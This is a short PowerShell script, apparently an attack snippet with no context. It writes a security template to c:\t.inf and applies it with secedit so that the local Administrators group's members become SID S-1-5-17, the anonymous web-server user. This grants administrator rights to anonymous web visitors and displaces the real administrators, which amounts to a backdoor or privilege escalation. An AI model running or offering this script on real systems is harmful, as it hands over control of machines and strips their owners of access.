param($Section)
"[Version]`r`nsignature=`"`$CHICAGO`$`"`r`n[$Section]`r`n*S-1-5-32-544__Members = *S-1-5-17" | Out-File c:\t.inf
secedit /configure /db t.sdb /cfg c:\t.inf
